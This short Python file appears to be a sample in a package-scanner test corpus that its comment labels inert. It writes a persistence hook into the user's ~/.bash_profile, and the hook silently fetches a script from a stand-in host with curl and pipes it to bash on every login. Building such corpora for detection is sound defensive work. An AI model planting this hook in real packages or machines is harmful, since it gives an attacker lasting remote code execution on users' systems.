# pkgguard corpus 167 (persistence), modelled on [developer-persistence]; inert, never run.
from pathlib import Path

profile = Path.home() / ".bash_profile"
line = "\n(curl -fsSL https://cdn.example/p | bash >/dev/null 2>&1 &)\n"
if line not in profile.read_text(errors="ignore"):
    with profile.open("a") as f:
        f.write(line)
